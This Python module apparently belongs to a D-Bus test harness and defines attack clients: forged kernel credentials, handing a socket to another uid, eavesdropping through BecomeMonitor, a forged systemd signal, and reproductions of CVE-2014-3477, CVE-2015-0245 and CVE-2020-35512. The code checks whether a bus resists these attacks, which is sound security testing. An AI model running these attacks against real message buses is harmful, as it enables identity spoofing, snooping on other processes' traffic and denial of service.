"""Attacks on who-is-who: forged kernel credentials, a socket handed to another process,
watching other peers' traffic, signals that only the bus or systemd should send, and policy
(a forbidden call, a forbidden call that starts a service)."""

from __future__ import annotations

import os
import socket
import time
from typing import Any

from jeepney import DBusAddress, HeaderFields, MessageType, new_method_call, new_signal
from jeepney.bus_messages import message_bus
from jeepney.low_level import Parser

from fuzz.clients.attack_base import Attacker
from fuzz.clients.protocol import BUS_NAME
from fuzz.wire import raw

BUS_PATH = "/org/freedesktop/DBus"


def _ask_driver(sock: socket.socket, msg, serial: int) -> Any:
    """The error name, the first value of the reply (True if it has none), or None."""
    reply = raw.call(sock, msg, serial)
    if reply is None:
        return None
    return reply.header.fields.get(HeaderFields.error_name) or (reply.body[0] if reply.body else True)


def scm_credentials(a: Attacker) -> dict[str, Any]:
    """The SASL nul byte sent with SCM_CREDENTIALS naming another pid and uid; then what does
    the bus believe about us?"""
    claim_pid, claim_uid = int(a.p.get("claim_pid", 1)), int(a.p.get("claim_uid", 65534))
    sock = raw.connect_unix(a.path)
    a.held.append(sock)
    try:
        raw.nul_with_credentials(sock, claim_pid, claim_uid, os.getegid())
    except PermissionError as e:
        a.step("kernel-refused", error=str(e))
        return {"outcome": "kernel-refused", "error": str(e)}
    raw.authenticate(sock, nul=False)
    me = raw.hello(sock)
    pid = _ask_driver(sock, message_bus.GetConnectionUnixProcessID(me), 2)
    uid = _ask_driver(sock, message_bus.GetConnectionUnixUser(me), 3)
    a.step("believed", pid=pid, uid=uid, claimed_pid=claim_pid, claimed_uid=claim_uid)
    believed = pid == claim_pid or uid == claim_uid
    return {"outcome": "believed" if believed else "ignored", "reported_pid": pid,
            "reported_uid": uid, "real_pid": os.getpid(), "real_uid": os.geteuid(),
            "claimed_pid": claim_pid, "claimed_uid": claim_uid}


def handoff(a: Attacker) -> dict[str, Any]:
    """Authenticate, then hand the socket to a child (of another uid if `to_uid`) that does the
    talking; SO_PEERCRED still names the opener, and so does everything the bus says."""
    to_uid = a.p.get("to_uid")
    sock, me = a.open()
    read_end, write_end = os.pipe()
    child = os.fork()
    if child == 0:  # the new speaker: only ever returns through os._exit
        code = 1
        try:
            os.close(read_end)
            if to_uid is not None:
                os.setgroups([])
                os.setgid(int(to_uid))
                os.setuid(int(to_uid))
            pid = _ask_driver(sock, message_bus.GetConnectionUnixProcessID(me), 2)
            uid = _ask_driver(sock, message_bus.GetConnectionUnixUser(me), 3)
            os.write(write_end, f"{pid} {uid}".encode())
            code = 0
        finally:
            os._exit(code)
    os.close(write_end)
    _, status = os.waitpid(child, 0)
    answer = os.read(read_end, 100).decode().split()
    os.close(read_end)
    if os.WEXITSTATUS(status) != 0 or len(answer) != 2:
        return {"outcome": "child-failed", "status": status}
    pid, uid = (int(x) if x.lstrip("-").isdigit() else x for x in answer)
    speaker_uid = os.geteuid() if to_uid is None else int(to_uid)
    outcome = "opener-credentials" if (pid, uid) == (os.getpid(), os.geteuid()) else \
        "speaker-credentials" if (pid, uid) == (child, speaker_uid) else "other"
    a.step("handed-off", reported_pid=pid, reported_uid=uid, opener=os.getpid(), speaker=child)
    return {"outcome": outcome, "reported_pid": pid, "reported_uid": uid,
            "opener_pid": os.getpid(), "speaker_pid": child, "speaker_uid": speaker_uid}


def monitor(a: Attacker) -> dict[str, Any]:
    """BecomeMonitor (or an eavesdrop match rule) and count what we get to see of others'
    traffic; an error the bus sends with reply serial 0 is the CVE-2023-34969 symptom."""
    how = str(a.p.get("how", "become-monitor"))
    sock, me = a.open()
    if how == "become-monitor":
        call = new_method_call(DBusAddress(BUS_PATH, bus_name=BUS_NAME,
                                           interface="org.freedesktop.DBus.Monitoring"),
                               "BecomeMonitor", "asu", ([], 0))
    else:
        call = message_bus.AddMatch("type='method_call',eavesdrop='true'")
    answer = _ask_driver(sock, call, 2)
    if answer is None or (isinstance(answer, str) and "." in answer):
        a.step("denied", error=answer)
        return {"outcome": "denied", "error": answer}
    seen, foreign, zero_serial = 0, 0, 0
    parser = Parser()
    while a.time_left():
        msgs, closed = raw.recv_messages(sock, 0.2, want=1 << 30, parser=parser)
        for m in msgs:
            seen += 1
            f = m.header.fields
            if f.get(HeaderFields.destination) not in (None, me):
                foreign += 1
            if m.header.message_type == MessageType.error and not f.get(HeaderFields.reply_serial):
                zero_serial += 1
        if closed:
            break
    outcome = "watching" if foreign else "saw-nothing"
    return {"outcome": outcome, "how": how, "seen": seen, "others_messages": foreign,
            "errors_without_reply_serial": zero_serial}


def driver_signal(a: Attacker) -> dict[str, Any]:
    """CVE-2015-0245: ActivationFailure sent to the bus driver as if from systemd. A correct
    bus ignores it from anyone but systemd (and answers nothing)."""
    sock, _ = a.open()
    sig = new_signal(DBusAddress("/org/freedesktop/systemd1",
                                 interface="org.freedesktop.systemd1.Activator"),
                     "ActivationFailure", "sss",
                     ("org.busrig.Echo", "org.freedesktop.DBus.Error.Spawn.Failed", "forged"))
    sig.header.fields[HeaderFields.destination] = BUS_NAME
    for i in range(int(a.p.get("count", 3))):
        sock.sendall(sig.serialise(serial=10 + i))
    closed, got = raw.wait_closed(sock, 0.5)
    errors = raw.error_names(got)
    return {"outcome": "disconnected" if closed else "refused" if errors else "ignored",
            "errors": sorted(set(errors))}


def policy_probe(a: Attacker) -> dict[str, Any]:
    """Do what a restrictive policy forbids: own `own`, call `member` of `interface` on
    `destination`. A bus enforcing the policy answers AccessDenied to each."""
    sock, _ = a.open()
    answers: dict[str, Any] = {}
    if a.p.get("own"):
        answers["own"] = _ask_driver(sock, message_bus.RequestName(str(a.p["own"])), 2)
    if a.p.get("interface") or a.p.get("member"):
        call = new_method_call(DBusAddress("/org/busrig/Service",
                                           bus_name=str(a.p.get("destination") or BUS_NAME),
                                           interface=a.p.get("interface") or None),
                               str(a.p.get("member") or "Get"))
        answers["call"] = _ask_driver(sock, call, 3)
    for what, answer in answers.items():
        a.step("probe", probe=what, answer=answer)
    denied = [k for k, v in answers.items() if v == "org.freedesktop.DBus.Error.AccessDenied"]
    outcome = "denied" if len(denied) == len(answers) else "allowed" if not denied else "mixed"
    return {"outcome": outcome, "answers": answers}


ACCESS_DENIED = "org.freedesktop.DBus.Error.AccessDenied"
ACTIVATION_TIMEOUT_S = 10.0  # starting a Python service on a loaded machine


def activation(a: Attacker) -> dict[str, Any]:
    """CVE-2014-3477: a call that makes the bus start `name`'s service, on an interface the
    policy forbids that service to receive. The caller must get AccessDenied as the answer to
    its own call, and the service must keep the name it asked for (the bug sent the error to
    the service instead, as the reply to its RequestName, and the service gave up)."""
    sock, _ = a.open()
    name = str(a.p.get("name"))
    call = new_method_call(DBusAddress("/org/busrig/Service", bus_name=name,
                                       interface=str(a.p.get("interface"))),
                           str(a.p.get("member")))
    reply = raw.call(sock, call, 2, ACTIVATION_TIMEOUT_S)
    answer = None if reply is None else (reply.header.fields.get(HeaderFields.error_name)
                                         or "reply")
    a.step("answer", answer=answer)
    owned, serial = False, 3
    deadline = time.monotonic() + 2.0
    while not owned and a.time_left() and time.monotonic() < deadline:
        owned = _ask_driver(sock, message_bus.NameHasOwner(name), serial) is True
        serial += 1
        if not owned:
            time.sleep(0.05)
    a.step("service", owns_name=owned)
    if answer == ACCESS_DENIED:
        outcome = "denied" if owned else "service-lost-name"
    elif answer is None:
        outcome = "no-answer"
    elif answer.startswith("org.freedesktop.DBus.Error.Spawn") or \
            answer == "org.freedesktop.DBus.Error.ServiceUnknown":
        outcome = "not-activated"
    else:
        outcome = "delivered"  # the service got the call it may not receive, and answered
    return {"outcome": outcome, "answer": answer, "service_owns_name": owned}


def reload(a: Attacker) -> dict[str, Any]:
    """CVE-2020-35512 (with the scenario's bus.user_aliases): ReloadConfig `count` times, asking
    before and after each for the name `own` (which the policy may grant or deny us by user
    name). Reloading flushes dbus-daemon's user cache, where two names of one uid were freed
    twice; a correct bus survives and gives the same verdict every time."""
    sock, _ = a.open()
    own = str(a.p.get("own"))
    serials = iter(range(2, 1 << 30))
    verdicts: list[Any] = []
    reloads: list[Any] = []

    def probe() -> None:
        answer = _ask_driver(sock, message_bus.RequestName(own), next(serials))
        verdicts.append("granted" if answer in (1, 4) else answer)
        if answer in (1, 4):  # primary owner / already owner: give it back for the next probe
            _ask_driver(sock, message_bus.ReleaseName(own), next(serials))

    probe()
    for _ in range(int(a.p.get("count", 5))):
        if not a.time_left():
            break
        reload_call = new_method_call(message_bus, "ReloadConfig")
        answer = _ask_driver(sock, reload_call, next(serials))
        reloads.append("ok" if answer is True else answer)
        probe()
    a.step("reloads", reloads=reloads, verdicts=verdicts)
    if any(r != "ok" for r in reloads):
        outcome = "reload-failed"
    elif len(set(map(str, verdicts))) != 1:
        outcome = "unstable"
    else:
        outcome = "stable-denied" if verdicts[0] == ACCESS_DENIED else \
            "stable-granted" if verdicts[0] == "granted" else f"stable-{verdicts[0]}"
    return {"outcome": outcome, "reloads": reloads, "verdicts": verdicts}


ATTACKS = {"activation": activation, "reload": reload, "policy-probe": policy_probe, "scm-credentials": scm_credentials, "handoff": handoff, "monitor": monitor,
           "driver-signal": driver_signal}
